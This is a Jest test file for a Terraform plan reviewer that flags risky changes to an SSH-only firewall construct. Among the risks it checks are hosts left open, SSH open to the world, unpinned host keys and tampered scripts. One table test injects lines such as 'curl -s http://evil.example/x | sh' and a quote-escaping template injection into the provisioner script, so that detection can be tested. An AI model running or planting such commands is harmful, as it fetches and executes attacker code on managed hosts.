/** Reviews of plans that the real Terraform made. */
import { mkdirSync, writeFileSync } from "node:fs";
import { DataResource, TerraformOutput, type TerraformStack, TerraformVariable } from "cdktf";
import { AllowedSource, type HostProps, PolicyException, SshOnlyFirewall, type SshOnlyFirewallProps } from "../../lib";
import { hostProgramVersion, launcher } from "../../lib/host/program";
import { fingerprint } from "../../lib/review/fingerprint";
import type { DangerKind } from "../../lib/review/dangers";
import { LONGEST_COMMENT, toMarkdown } from "../../lib/review/markdown";
import { readPlan } from "../../lib/review/plan";
import { type Review, reviewJson, reviewPlan } from "../../lib/review/review";
import { plain } from "../../lib/review/text";
import { expectGolden } from "../review/support/golden";
import { brokenIn } from "../review/support/rendered";
import { describeWith } from "../terraform/support";
import { type Configuration, type Planned, Project } from "./planned";

jest.setTimeout(300_000);

const TRACKERS = ["null_resource", "terraform_data"] as const;
const HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGxhYmxhYmxhYmxhYmxhYmxhYmxhYmxhYmxhYmxhYmxh";
const allowFrom = ["192.0.2.0/24", "2001:db8:1::/48"];
const connection = { hostKey: HOST_KEY };
const PROGRAM = "0123456789ab";

/** Hosts web-1, web-2, … at addresses of their own. */
function hosts(count: number, digits = 1): Record<string, HostProps> {
  const entries = Array.from({ length: count }, (_, index): [string, HostProps] => [
    `web-${String(index + 1).padStart(digits, "0")}`,
    { address: `10.0.${Math.floor(index / 250)}.${(index % 250) + 1}` },
  ]);
  return Object.fromEntries(entries);
}

interface Reviewed extends Review {
  readonly markdown: string;
  readonly planned: Planned;
}

function reviewed(planned: Planned): Reviewed {
  const json = planned.json.replaceAll(hostProgramVersion(), PROGRAM);
  const review = reviewPlan(readPlan(Buffer.from(json)), { launcher: launcher() });
  const markdown = toMarkdown(review, { knownProgram: PROGRAM });
  expect(markdown.length).toBeLessThanOrEqual(LONGEST_COMMENT);
  expect(brokenIn(markdown)).toEqual([]);
  return { ...review, markdown, planned };
}

const kinds = ({ dangers }: Review): DangerKind[] => dangers.map(({ kind }) => kind);
const outcomes = (review: Review): Record<string, string> =>
  Object.fromEntries(review.hosts.map(({ name, outcome }) => [name, outcome]));
const details = (review: Review, kind: DangerKind): string[] =>
  review.dangers
    .filter((danger) => danger.kind === kind)
    .flatMap(({ findings }) => findings.map(({ host, detail }) => `${host ?? "-"}: ${plain(detail)}`));

describeWith("the review of a plan", ["terraform"], () => {
  const projects: Project[] = [];
  afterAll(() => projects.forEach((project) => project.remove()));

  async function project(tracker: (typeof TRACKERS)[number] = "terraform_data"): Promise<Project> {
    const made = new Project();
    projects.push(made);
    return tracker === "null_resource" ? made.withNullProvider() : made;
  }

  const firewall = (
    made: Project,
    props: SshOnlyFirewallProps,
    others?: (stack: TerraformStack) => void,
  ): Configuration =>
    made.configuration((stack) => {
      new SshOnlyFirewall(stack, "fleet", { tracker: "terraform_data", allowFrom, connection, ...props });
      others?.(stack);
    });

  /** The plan of going from one to the other; the same one when `after` is left out. */
  async function change(
    before: SshOnlyFirewallProps | undefined,
    after: SshOnlyFirewallProps,
    ...args: readonly string[]
  ): Promise<Reviewed> {
    const made = await project(after.tracker);
    if (before !== undefined) {
      await made.apply(firewall(made, { ...before, tracker: after.tracker ?? "terraform_data" }));
    }
    return reviewed(await made.plan(firewall(made, after), ...args));
  }

  describe.each(TRACKERS)("with %s", (tracker) => {
    test("of a first lock shows who is locked, and the whole ruleset", async () => {
      const review = await change(undefined, { tracker, hosts: hosts(2) });
      expect(kinds(review)).toEqual([]);
      expect(outcomes(review)).toEqual({ "web-1": "first", "web-2": "first" });
      expectGolden("first-lock.md", review.markdown);
    });

    test("of nothing to do says so, and where the fleet stands", async () => {
      const review = await change({ hosts: hosts(2) }, { tracker, hosts: hosts(2) });
      expect(review.planned.text).toContain("No changes.");
      expectGolden("nothing-to-do.md", review.markdown);
      const first = await change(undefined, { tracker, hosts: hosts(2) });
      expect(review.fingerprint).toBe(first.fingerprint);
    });

    test("of a host that is taken out names it first", async () => {
      const review = await change({ hosts: hosts(3) }, { tracker, hosts: hosts(2) });
      expect(kinds(review)).toEqual(["opened"]);
      expectGolden("host-removed.md", review.markdown);
    });

    test("of a host that is taken out, and that stays locked, says that nothing opens it", async () => {
      const review = await change({ hosts: hosts(3) }, { tracker, hosts: hosts(2), onDestroy: "leave-locked" });
      expect(details(review, "left-locked")).toEqual([
        "web-3: 10.0.0.3: no unlock runs, for onDestroy is leave-locked",
      ]);
      expect(kinds(review)).toEqual(["left-locked"]);
    });

    test("of a new address names both", async () => {
      const moved = { ...hosts(2), "web-2": "203.0.113.9" };
      const review = await change({ hosts: hosts(2) }, { tracker, hosts: moved });
      expect(kinds(review)).toEqual(["address"]);
      expect(details(review, "address")).toEqual([
        "web-2: 10.0.0.2 becomes 203.0.113.9; the old address is unlocked, and open",
      ]);
      expectGolden("address-changed.md", review.markdown);
    });

    test("of a firewall that left the code says that its hosts stay locked", async () => {
      const made = await project(tracker);
      const keep = (stack: TerraformStack): void => void new DataResource(stack, "kept", { input: { a: "b" } });
      await made.apply(firewall(made, { tracker, hosts: hosts(3) }, keep));
      const review = reviewed(await made.plan(made.configuration(keep)));
      expect(kinds(review)).toEqual(["left-locked"]);
      expect(outcomes(review)).toEqual({ "web-1": "leave", "web-2": "leave", "web-3": "leave" });
      expect([...review.others]).toEqual([]);
      expectGolden("construct-deleted.md", review.markdown);
    });

    test("of a tainted host says that it is tried again", async () => {
      const made = await project(tracker);
      const configuration = firewall(made, { tracker, hosts: hosts(3) });
      await made.apply(configuration);
      await made.terraform("taint", `${tracker}.fleet_lockdown["web-2"]`);
      const review = reviewed(await made.plan(configuration));
      expect(kinds(review)).toEqual(["cut-off", "tainted"]);
      expect(outcomes(review)).toEqual({ "web-1": "stay", "web-2": "retry", "web-3": "stay" });
      expectGolden("tainted.md", review.markdown);
    });

    test("of other sources and another port names who is cut off", async () => {
      const after = { tracker, hosts: hosts(2), allowFrom: ["192.0.2.0/25", "2001:db8::/32"], sshPort: 2222 };
      const review = await change({ hosts: hosts(2) }, after);
      expect(kinds(review)).toEqual(["cut-off"]);
      const lost =
        "the SSH port 22 becomes 2222; no longer from 192.0.2.0/24; from now on from 192.0.2.0/25, 2001:db8::/32";
      expect(details(review, "cut-off")).toEqual([`web-1: ${lost}`, `web-2: ${lost}`]);
    });

    test.each(["nftables", "iptables", "auto"] as const)(
      "of SSH open to the world names it, with backend %s",
      async (backend) => {
        const review = await change(undefined, { tracker, backend, hosts: hosts(1), allowFrom: undefined });
        expect(details(review, "open-to-world")).toEqual(["web-1: TCP port 22 from anywhere (IPv4), anywhere (IPv6)"]);
        expect(kinds(review)).toEqual(["open-to-world"]);
      },
    );

    test.each(["0.0.0.0/0", "::/0"])("of an exception for %s names its port", async (from) => {
      const exceptions = [PolicyException.ingress({ from: [from], port: 3389, protocol: "tcp" })];
      const review = await change(undefined, { tracker, hosts: hosts(1), exceptions });
      const family = from === "::/0" ? "IPv6" : "IPv4";
      expect(details(review, "open-to-world")).toEqual([
        `web-1: an exception lets in tcp 3389 from anywhere (${family})`,
      ]);
      expect(kinds(review)).toEqual(["open-to-world"]);
    });

    test("of another host program says that all hosts are locked again", async () => {
      const made = await project(tracker);
      const configuration = firewall(made, { tracker, hosts: hosts(2) });
      const older = JSON.parse(
        JSON.stringify(configuration).replaceAll(hostProgramVersion(), "ba9876543210"),
      ) as Configuration;
      await made.apply(older);
      const review = reviewed(await made.plan(configuration));
      expect(kinds(review)).toEqual([]);
      expect(review.rulesetChanges).toEqual([]);
      expect(review.markdown).toContain("`ba9876543210` becomes `0123456789ab`, the one of this version");
      const back = await made.plan(older);
      expect(reviewed(back).markdown).not.toContain("ba9876543210");
    });

    test("of persist that changes for a host locks that one again, and says what it becomes", async () => {
      const [on, off] = [hosts(3), { ...hosts(3), "web-2": { address: "10.0.0.2", persist: false } }];
      const only = { "web-1": "stay", "web-2": "relock", "web-3": "stay" };
      const made = await project(tracker);
      await made.apply(firewall(made, { tracker, hosts: on }));
      const without = reviewed(await made.plan(firewall(made, { tracker, hosts: off })));
      expect([outcomes(without), kinds(without)]).toEqual([only, []]);
      expect(without.hosts[1].why).toEqual(["its persist changes"]);
      expect(without.planned.text).toMatch(/\+ "?persist"? += "false"/);
      expect(without.markdown).toContain("- Locked through restarts: `no, a restart opens the host`.");

      await made.apply(firewall(made, { tracker, hosts: off }));
      expect((await made.plan(firewall(made, { tracker, hosts: off }))).text).toContain("No changes.");
      const again = reviewed(await made.plan(firewall(made, { tracker, hosts: on })));
      expect([outcomes(again), kinds(again)]).toEqual([only, []]);
      expect(again.markdown).toContain("- Locked through restarts: `yes`.");
      // For all hosts together: those that had it already are left alone.
      const all = reviewed(await made.plan(firewall(made, { tracker, hosts: on, persist: false })));
      expect(outcomes(all)).toEqual({ "web-1": "relock", "web-2": "stay", "web-3": "relock" });
    });

    test("of hosts without a pinned host key names them, and only those", async () => {
      const one = { ...hosts(2), "web-1": { address: "10.0.0.1", connection } };
      expect(details(await change(undefined, { tracker, hosts: one, connection: {} }), "host-key")).toEqual([
        "web-2: another machine could answer in its place; give connection.hostKey",
      ]);
      const none = await change(undefined, { tracker, hosts: hosts(2), connection: {} });
      expect(details(none, "host-key")).toHaveLength(2);
    });

    test("of hosts without the usual checks names them, also where the setting is one host's own", async () => {
      const own = { ...hosts(2), "web-1": { address: "10.0.0.1", takeOver: true } };
      const review = await change(undefined, { tracker, hosts: own, skipPreflight: true });
      expect(details(review, "unguarded").map((one) => one.split(":").slice(0, 2).join(":"))).toEqual([
        "web-1: skipPreflight is set",
        "web-1: takeOver is set",
        "web-2: skipPreflight is set",
      ]);
    });

    test("made with an older construct, which told less, says what is not told", async () => {
      const made = await project(tracker);
      const older = firewall(made, { tracker, hosts: hosts(1) });
      for (const part of ["hold", "lockdown"]) {
        const resource = older.resource?.[tracker][`fleet_${part}`] as Record<string, Record<string, unknown>>;
        delete resource.input;
        delete resource.lifecycle;
        delete resource.triggers?.host_key;
      }
      expect(details(reviewed(await made.plan(older)), "host-key")).toEqual([
        "web-1: this plan does not tell whether it is pinned",
      ]);
      // And the newer one locks nothing again.
      await made.apply(older);
      const newer = reviewed(await made.plan(firewall(made, { tracker, hosts: hosts(1) })));
      expect(outcomes(newer)).toEqual({ "web-1": tracker === "terraform_data" ? "update" : "stay" });
      expect(newer.hosts[0].locks).toBe(false);
    });

    test("of -replace says which hosts are open in between", async () => {
      const args = [`-replace=${tracker}.fleet_hold["web-1"]`, `-replace=${tracker}.fleet_lockdown["web-2"]`];
      const review = await change({ hosts: hosts(2) }, { tracker, hosts: hosts(2) }, ...args);
      expect(outcomes(review)).toEqual({ "web-1": "reopen", "web-2": "relock" });
      expect(details(review, "reopened")).toEqual(["web-1: 10.0.0.1: its hold is replaced (replace_by_request)"]);
      expect(review.hosts[1].why).toEqual(["somebody asked for it (-replace)"]);
    });

    test("that replaces a hold alone says that nothing locks the host again", async () => {
      const hold = `${tracker}.fleet_hold["web-1"]`;
      const props = { tracker, hosts: hosts(2) };
      const review = await change({ hosts: hosts(2) }, props, `-replace=${hold}`, `-target=${hold}`);
      expect(kinds(review)).toEqual(["incomplete", "opened"]);
      expect(details(review, "opened")[0]).toMatch(/^web-1: 10.0.0.1: .* does not lock it again$/);
      expect(review.lockedAfter).toBe(1);
    });

    test("of a hold that was tainted says that the old one keeps the lock", async () => {
      const made = await project(tracker);
      const configuration = firewall(made, { tracker, hosts: hosts(1) });
      await made.apply(configuration);
      await made.terraform("taint", `${tracker}.fleet_hold["web-1"]`);
      expect(kinds(reviewed(await made.plan(configuration)))).toEqual(["owner", "tainted"]);
      const gone = reviewed(await made.plan(firewall(made, { tracker, hosts: { other: "10.0.0.9" } })));
      expect(details(gone, "left-locked")).toEqual(["web-1: 10.0.0.1: no unlock runs, for its hold is tainted"]);
    });

    test("of create_before_destroy, which spreads from resources of others, says that no unlock runs", async () => {
      const made = await project(tracker);
      const spread = (stack: TerraformStack): void => {
        const { lockdowns } = stack.node.findChild("fleet") as SshOnlyFirewall;
        new DataResource(stack, "later", { dependsOn: [...lockdowns], lifecycle: { createBeforeDestroy: true } });
      };
      await made.apply(firewall(made, { tracker, hosts: hosts(1) }, spread));
      const review = reviewed(await made.plan(firewall(made, { tracker, hosts: { "web-1": "10.0.0.7" } }, spread)));
      expect(kinds(review)).toEqual(["left-locked", "address"]);
      expect(details(review, "left-locked")[0]).toContain(
        "10.0.0.1: no unlock runs, for its hold is replaced with create_before_destroy",
      );
    });

    test("of a host that is only observed from now on says that it is opened, whatever else happens to it", async () => {
      const before = { hosts: hosts(2) };
      const after = { tracker, hosts: { ...hosts(2), "web-2": "203.0.113.9" }, mode: "observe" } as const;
      const review = await change(before, after, `-replace=${tracker}.fleet_hold["web-1"]`);
      expect(outcomes(review)).toEqual({ "web-1": "observe", "web-2": "observe" });
      expect(kinds(review)).toEqual(["opened", "address"]);
      expect(details(review, "opened")).toEqual([
        "web-1: 10.0.0.1: becomes observed, which denies nothing",
        "web-2: 203.0.113.9: becomes observed, which denies nothing",
      ]);
      expect(review.markdown).toContain("- `unlock`, over SSH, where a hold is destroyed");
    });

    test("of a lockdown that left the state alone says that its host is perhaps locked already", async () => {
      const made = await project(tracker);
      await made.apply(firewall(made, { tracker, hosts: hosts(2) }));
      await made.terraform("state", "rm", `${tracker}.fleet_lockdown["web-1"]`);
      const review = reviewed(await made.plan(firewall(made, { tracker, hosts: hosts(2), mode: "observe" })));
      expect(outcomes(review)).toEqual({ "web-1": "observe", "web-2": "observe" });
      expect(details(review, "opened")).toEqual([
        "web-1: 10.0.0.1: is perhaps locked already, and becomes observed, which denies nothing",
        "web-2: 10.0.0.2: becomes observed, which denies nothing",
      ]);
      const locked = reviewed(await made.plan(firewall(made, { tracker, hosts: hosts(2) })));
      expect(outcomes(locked)).toEqual({ "web-1": "perhaps", "web-2": "stay" });
      expect(kinds(locked)).toEqual(["cut-off"]);
    });

    test("of changed waves knows the hosts that come into another lockdown, and what becomes of them there", async () => {
      const narrower = { tracker, hosts: hosts(2), allowFrom: ["192.0.2.0/25", "2001:db8:1::/48"] };
      const into = await change({ hosts: hosts(2) }, { ...narrower, waves: [["web-1"]] });
      expect(outcomes(into)).toEqual({ "web-1": "relock", "web-2": "relock" });
      expect(into.hosts).toHaveLength(2);
      expect(into.hosts[0].why).toContain("its lockdown is another resource than before");
      expect(kinds(into)).toEqual(["cut-off"]);
      expect(details(into, "cut-off")).toHaveLength(2);
      const out = await change({ hosts: hosts(2), waves: [["web-1"]] }, { tracker, hosts: hosts(2), mode: "observe" });
      expect(out.hosts.map(({ name, outcome }) => [name, outcome])).toEqual([
        ["web-1", "observe"],
        ["web-2", "observe"],
      ]);
      expect(kinds(out)).toEqual(["opened"]);
      expect(details(out, "opened")).toHaveLength(2);
    });

    test("of `removed` blocks says that the hosts are forgotten", async () => {
      const made = await project(tracker);
      await made.apply(firewall(made, { tracker, hosts: hosts(1) }));
      const removed = ["ruleset", "hold", "lockdown"].map((part) => ({
        from: `${tracker}.fleet_${part}`,
        lifecycle: { destroy: false },
      }));
      const review = reviewed(await made.plan({ ...made.configuration(() => undefined), removed }));
      expect(details(review, "left-locked")).toEqual([
        "web-1: 10.0.0.1: no unlock runs, for Terraform only forgets it (forget)",
      ]);
    });

    test("with targets says that it is not all, and counts in what it leaves out", async () => {
      const made = await project(tracker);
      await made.apply(firewall(made, { tracker, hosts: hosts(3) }));
      const after = firewall(made, { tracker, hosts: hosts(2), allowFrom: [...allowFrom, "198.51.100.7"] });
      const review = reviewed(await made.plan(after, `-target=${tracker}.fleet_lockdown["web-1"]`));
      // Terraform takes the holds as a whole for what the target needs: the one that was taken out goes too.
      expect(kinds(review)).toEqual(["incomplete", "opened"]);
      expect(outcomes(review)).toEqual({ "web-1": "relock", "web-2": "stay", "web-3": "unlock" });
      expect(review.lockedAfter).toBe(2);
    });

    test("of a destroy opens every host, and leaves none", async () => {
      const review = await change({ hosts: hosts(2) }, { tracker, hosts: hosts(2) }, "-destroy");
      expect(outcomes(review)).toEqual({ "web-1": "unlock", "web-2": "unlock" });
      expect(review.lockedAfter).toBe(0);
    });

    test("finds firewalls by what they are, whatever they and their resources are called", async () => {
      const made = await project(tracker);
      const two = (address: string) => (stack: TerraformStack) => {
        const first = new SshOnlyFirewall(stack, "a_hold", { tracker, allowFrom, connection, hosts: hosts(1) });
        const second = new SshOnlyFirewall(stack, "b", { tracker, allowFrom, connection, hosts: { "web-1": address } });
        [first.holds[0], first.lockdowns[0], first.ruleset].forEach((one, index) => one.overrideLogicalId(`x${index}`));
        second.holds[0].overrideLogicalId("second_ruleset");
        new DataResource(stack, "c_hold", { triggersReplace: { address: "not ours" } });
      };
      await made.apply(made.configuration(two("10.0.0.2")));
      const review = reviewed(await made.plan(made.configuration(two("10.0.0.3"))));
      expect(outcomes(review)).toEqual({ "b/web-1": "move", "x1/web-1": "stay" });
      expect(kinds(review)).toEqual(["address"]);
      // Also when nothing but the state tells what they were.
      const gone = reviewed(await made.plan(made.configuration(() => undefined)));
      expect(outcomes(gone)).toEqual({ "b/web-1": "leave", "x1/web-1": "leave" });
      expect([...gone.others]).toEqual([["delete", 1]]);
      expect(kinds(gone)).toEqual(["left-locked"]);
    });
  });

  test("of one ruleset change of 400 hosts is one diff and a list", async () => {
    const made = await project();
    const [[key, { address }], ...others] = Object.entries(hosts(400, 3));
    await made.apply(firewall(made, { hosts: { [key]: address } }));
    made.multiply(
      key,
      address,
      others.map(([other, host]) => [other, host.address]),
    );
    const after = { hosts: hosts(400, 3), allowFrom: [...allowFrom, "198.51.100.7"] };
    const review = reviewed(await made.plan(firewall(made, after)));
    expect(review.planned.text).toContain("Plan: 401 to add, 0 to change, 401 to destroy.");
    expect(kinds(review)).toEqual([]);
    expect(review.rulesetChanges).toHaveLength(1);
    expect(review.rulesetChanges[0].hosts).toEqual(Object.keys(hosts(400, 3)));
    expectGolden("fleet-of-400.md", review.markdown);
  });

  test("of a stack with other resources counts those", async () => {
    const made = await project();
    const others = (count: number, input: string) => (stack: TerraformStack) => {
      for (let index = 0; index < count; index += 1) {
        new DataResource(stack, `other-${index}`, { input: { input } });
      }
    };
    await made.apply(firewall(made, { hosts: hosts(2) }, others(3, "a")));
    const review = reviewed(await made.plan(firewall(made, { hosts: hosts(3) }, others(2, "b"))));
    expect([...review.others]).toEqual([
      ["delete", 1],
      ["update", 2],
    ]);
    expectGolden("mixed-stack.md", review.markdown);
  });

  test("says of what is known after apply that it is, and gives no fingerprint", async () => {
    const made = await project();
    const configuration = made.configuration((stack) => {
      const server = new DataResource(stack, "server", { input: { ip: "x" } });
      const address = server.getStringAttribute("id");
      new SshOnlyFirewall(stack, "fleet", {
        tracker: "terraform_data",
        connection,
        allowFrom: [AllowedSource.ipv4(address)],
        hosts: { "web-1": address, "web-2": { address: "10.0.0.2", allowFrom } },
      });
    });
    const review = reviewed(await made.plan(configuration));
    expect(details(review, "unknown")).toEqual(["web-1: its ruleset is (known after apply)"]);
    expect(review.fingerprint).toBeUndefined();
    expectGolden("known-after-apply.md", review.markdown);
  });

  test("shows no sensitive value", async () => {
    const made = await project();
    const configuration = made.configuration((stack) => {
      const secret = new TerraformVariable(stack, "secret", {
        type: "string",
        sensitive: true,
        default: "203.0.113.77",
      });
      new SshOnlyFirewall(stack, "fleet", {
        tracker: "terraform_data",
        connection,
        allowFrom: [AllowedSource.ipv4(secret.stringValue)],
        hosts: { "web-1": secret.stringValue },
      });
    });
    const review = reviewed(await made.plan(configuration));
    expect(review.planned.json).toContain("203.0.113.77");
    expect(review.markdown + JSON.stringify(reviewJson(review, ""))).not.toContain("203.0.113.77");
    expect(review.markdown).toContain("address sensitive");
  });

  test("of a plan that failed half-way says that it is none", async () => {
    const made = await project();
    await made.apply(firewall(made, { hosts: hosts(1) }));
    const lifecycle = { precondition: [{ condition: "${terraform_data.fleet_hold == null}", error_message: "No." }] };
    const broken = firewall(made, { hosts: hosts(2) });
    const resource = { terraform_data: { ...broken.resource?.terraform_data, fails: { lifecycle } } };
    const review = reviewed(await made.plan({ ...broken, resource }));
    expect(review.errored).toBe(true);
    expect(kinds(review)).toContain("incomplete");
    expect(review.fingerprint).toBeUndefined();
    expect(review.markdown).toContain("**This plan failed and cannot be applied. ");
  });

  test("of hosts in modules, with keys of their own, tells them apart", async () => {
    const made = await project();
    const inner = firewall(made, { hosts: hosts(1) });
    const { terraform: settings, ...module } = inner;
    expect(settings).toBeDefined();
    mkdirSync(made.path("inner"));
    const outer = (sites: string[]): Configuration => ({
      terraform: settings,
      module: { site: { source: "./inner", for_each: Object.fromEntries(sites.map((site) => [site, site])) } },
    });
    const states = JSON.parse(JSON.stringify(module)) as Configuration;
    Object.values(states.resource?.terraform_data ?? {}).forEach((one) => delete one.provisioner);
    writeFileSync(made.path("inner/main.tf.json"), JSON.stringify(states));
    await made.apply(outer(["a", 'b"]']));
    writeFileSync(made.path("inner/main.tf.json"), JSON.stringify(module));
    const review = reviewed(await made.plan(outer(["a"])));
    expect(outcomes(review)).toEqual({
      'module.site["a"].fleet/web-1': "stay",
      'module.site["b\\"]"].fleet/web-1': "unlock",
    });
    const gone = reviewed(await made.plan({ terraform: settings }));
    expect(Object.values(outcomes(gone))).toEqual(["leave", "leave"]);
  });

  test("of a move to terraform_data follows the hosts, and says what the move does to them", async () => {
    const made = await project("null_resource");
    await made.apply(firewall(made, { tracker: "null_resource", hosts: hosts(1) }));
    const moved = ["ruleset", "hold", "lockdown"].map((part) => ({
      from: `null_resource.fleet_${part}`,
      to: `terraform_data.fleet_${part}`,
    }));
    const after = firewall(made, { hosts: hosts(1) });
    const review = reviewed(
      await made.plan({
        ...after,
        moved,
        terraform: { ...(after.terraform as object), required_providers: { null: { source: "hashicorp/null" } } },
      }),
    );
    expect(Object.keys(outcomes(review))).toEqual(["web-1"]);
    expect(kinds(review)).not.toContain("unclear");
    const replaced = review.planned.text.includes('terraform_data.fleet_hold["web-1"] must be replaced');
    expect(outcomes(review)).toEqual({ "web-1": replaced ? "reopen" : "relock" });
  });

  test("of a renamed construct or host says that two owners meet at one machine", async () => {
    const made = await project();
    await made.apply(firewall(made, { hosts: hosts(1) }));
    const review = reviewed(await made.plan(firewall(made, { hosts: { renamed: "10.0.0.1" } })));
    expect(details(review, "owner")).toEqual([
      "renamed: 10.0.0.1 is locked as web-1 until now; its lock may be refused, unless takeOver is set",
    ]);
  });

  test("of a host that is only told anew how it is reached names what changes, and no value", async () => {
    const made = await project();
    await made.apply(firewall(made, { hosts: hosts(2) }));
    const elsewhere = { hostKey: HOST_KEY, user: "admin", bastion: { host: "203.0.113.66" } };
    const own = { ...hosts(2), "web-1": { address: "10.0.0.1", connection: elsewhere } };
    const review = reviewed(await made.plan(firewall(made, { hosts: own, connection: {} })));
    expect(outcomes(review)).toEqual({ "web-1": "update", "web-2": "update" });
    expect(review.hosts[0].why).toHaveLength(1);
    expect(review.hosts[0].why[0]).toMatch(/^remembered anew: .*\bbastion_host\b.*\buser\b/);
    expect(review.hosts[1].why[0]).toMatch(/^remembered anew: .*\bhost_key\b/);
    expect(review.markdown).not.toContain("203.0.113.66");
    expect(review.markdown).toContain("Of 2 hosts: 2 remembered anew.**");
    expect(details(review, "host-key")).toEqual([
      "web-2: it was pinned until now; another machine could answer in its place",
    ]);
  });

  test("of two firewalls that claim one machine says that they do", async () => {
    const two = (first: Record<string, HostProps>) => (stack: TerraformStack) => {
      const props = { tracker: "terraform_data", allowFrom, connection } as const;
      new SshOnlyFirewall(stack, "fleet", { ...props, hosts: first });
      new SshOnlyFirewall(stack, "two", { ...props, hosts: { other: "10.0.0.1" } });
    };
    const [made, fresh] = [await project(), await project()];
    const both = made.configuration(two(hosts(1)));
    expect(details(reviewed(await made.plan(both)), "owner")).toEqual([
      "fleet/web-1: 10.0.0.1 is the address of two/other too; its lock may be refused, unless takeOver is set",
      "two/other: 10.0.0.1 is the address of fleet/web-1 too; its lock may be refused, unless takeOver is set",
    ]);
    await made.apply(firewall(made, { hosts: hosts(1) }));
    expect(details(reviewed(await made.plan(both)), "owner")).toEqual([
      "two/other: 10.0.0.1 is the address of fleet/web-1 too; its lock may be refused, unless takeOver is set",
    ]);
    // Behind one address, at ports of their own.
    const apart = { "web-1": { address: "10.0.0.1", connection: { ...connection, port: 2201 } } };
    expect(kinds(reviewed(await fresh.plan(fresh.configuration(two(apart)))))).not.toContain("owner");
  });

  test("of hosts that exchange their addresses says that two owners meet", async () => {
    const swapped = { hosts: { "web-1": "10.0.0.2", "web-2": "10.0.0.1" } };
    const review = await change({ hosts: hosts(2) }, swapped);
    expect(details(review, "owner")).toEqual([
      "web-1: 10.0.0.2 is locked as web-2 until now; its lock may be refused, unless takeOver is set",
      "web-2: 10.0.0.1 is locked as web-1 until now; its lock may be refused, unless takeOver is set",
    ]);
  });

  test("of provisioners that are not the construct's names them", async () => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(1) });
    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as { provisioner: unknown[] };
    lockdown.provisioner.push({ "local-exec": { command: "true" } });
    const review = reviewed(await made.plan(configuration));
    expect(details(review, "unclear")).toEqual([
      "-: terraform_data.fleet_lockdown runs other provisioners than those of this firewall; read them in the configuration",
    ]);
    expect(lockdown.provisioner.splice(1, 1)).toHaveLength(1);
    expect(kinds(reviewed(await made.plan(configuration)))).toEqual(["unclear"]);
  });

  test.each([
    [
      "a command in front",
      (text: string) => text.replace("#!/bin/sh\n", "#!/bin/sh\ncurl -s http://evil.example/x | sh\n"),
    ],
    [
      "a command among the settings",
      (text: string) => text.replace("BACKEND='auto'", "BACKEND='auto'; curl evil.example"),
    ],
    ["a setting that is shell", (text: string) => text.replace("BACKEND='auto'", 'BACKEND="$(curl evil.example)"')],
    [
      "a command in the launcher",
      (text: string) => text.replace("exec </dev/null", "curl evil.example | sh; exec </dev/null"),
    ],
    ["a command behind it", (text: string) => `${text}curl evil.example\n`],
    [
      "a template of two",
      (text: string) =>
        text.replace("each.key", "each.key, \"'\", \"'\\\\''\")}'; curl evil.example; x='${replace(each.key"),
    ],
  ])("of a script with %s says that it is another one", async (_what, alter) => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(1) });
    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as {
      provisioner: Array<{ "remote-exec": { inline: string[] } }>;
    };
    const { inline } = lockdown.provisioner[0]["remote-exec"];
    const [script] = inline;
    inline[0] = alter(script);
    expect(inline[0]).not.toBe(script);
    expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
      "-: terraform_data.fleet_lockdown uploads another script than this version of ssh-only-firewall would: read it, or review with the version that the configuration was made with",
    ]);
  });

  test("of a lockdown that lost a trigger reports it, and does not call it something else", async () => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(1) });
    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as {
      triggers_replace: Record<string, string>;
    };
    delete lockdown.triggers_replace.hold;
    const review = reviewed(await made.plan(configuration));
    expect(details(review, "unclear")[0]).toContain(
      'terraform_data.fleet_lockdown["web-1"] looks like a part of a firewall',
    );
  });

  test("gives a fingerprint that the state has after the deploy", async () => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(2) }, (stack) => {
      const { lockedHosts } = stack.node.findChild("fleet") as SshOnlyFirewall;
      new TerraformOutput(stack, "locked", { value: lockedHosts });
    });
    const before = reviewPlan(readPlan(Buffer.from((await made.plan(configuration)).json)));
    await made.apply(configuration);
    const state = JSON.parse(await made.terraform("show", "-json")) as {
      values: { outputs: { locked: { value: Record<string, { address: string; ruleset_sha256: string }> } } };
    };
    const locked = Object.entries(state.values.outputs.locked.value).map(
      ([key, { address, ruleset_sha256: ruleset }]) => {
        return { key, address, ruleset, program: hostProgramVersion() };
      },
    );
    expect(before.fingerprint).toBe(fingerprint(locked.reverse()));
  });
});
